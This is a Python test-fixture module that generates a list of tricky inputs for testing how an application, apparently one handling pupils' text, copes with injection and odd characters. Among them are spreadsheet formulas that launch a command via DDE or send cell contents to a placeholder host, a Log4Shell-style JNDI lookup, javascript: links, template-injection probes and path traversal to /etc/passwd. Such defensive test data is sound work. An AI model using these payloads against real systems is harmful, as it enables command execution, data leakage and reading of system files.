"""Texts that a careless program runs, opens, breaks on or takes for markup: a pupil could type any of them."""

from itertools import product

_FORMULA_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "|", "%", "'=", '"=')
_FORMULA_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid","click")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    "SUM(1;2)",
    "IMPORTXML(CONCAT(A1:A9))",
    'DDE("cmd";"/C calc";"x")',
    "A1",
)
_FILE = "file:" + "///etc/passwd"
_MARKUP = (
    "<b>bold",
    "</para>",
    f'<img src="{_FILE}"/>',
    "<img src=file>",
    "<font color=red>红</font>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="http://example.invalid">x</a>',
    "<onDraw name=x label=y/>",
    "<seq id=1/>",
    "&amp;&lt;&#x41;",
    "& < > \" '",
    "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "]]>",
    "<br/>",
    "<u><strike>x",
    "%(name)s {name} {0} %s",
    "{__class__}",
    "{{7*7}}",
    "${jndi:ldap://example.invalid}",
    "(a) \\(b\\) \\\\",
    "/JavaScript (app.alert(1))",
    "endstream endobj",
    "BT /F1 12 Tf (x) Tj ET",
    "_x0041_",
    "_x005F_x0041_",
    "http://example.invalid",
    "mailto:a@example.invalid",
    _FILE,
    "\\\\server\\share",
    "../../etc/passwd",
    "CON",
    "a" * 300,
    "长" * 300,
    "，。！？" * 60,
    "((((((((((",
)
_CHARACTERS = (
    "李𬭚",
    "陈㛃",
    "𬍛喆祎",
    "欧阳·阿卜杜拉",
    "Zoë Brontë",
    "Łukasz Żółć",
    "Nguyễn Thị Ánh",
    "😀",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈 A",
    "علي بن أبي طالب",
    "שלום",
    "हिन्दी",
    "ไทย",
    "한국어",
    "ひらがな",
    "\u202eabc\u202c",
    "a\u200bb",
    "e\u0301",
    "\x00a\x07b\x1fc",
    "a\ud800b",
    "\ufeffx",
    "½ ≤ 3 ± 0.1 × √2",
    "“引号”——破折号……",
    "ﬁ ﬂ",
    "１２３ＡＢＣ",
    "\u2028x\u2029y",
    "\u00a0x\u00a0",
    "a\tb",
    "a\r\nb\nc\rd",
)
_NUMBERS = ("-1", "+5", "-0.5", "1e5", "1E400", "0012", "0012345678901234567", "12-3", "1/2", "=-1", "--1", "+-1")

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(start + body for start, body in product(_FORMULA_STARTS, _FORMULA_BODIES)),
            *_MARKUP,
            *_CHARACTERS,
            *_NUMBERS,
        ]
    )
)
assert len(PAYLOADS) >= 200
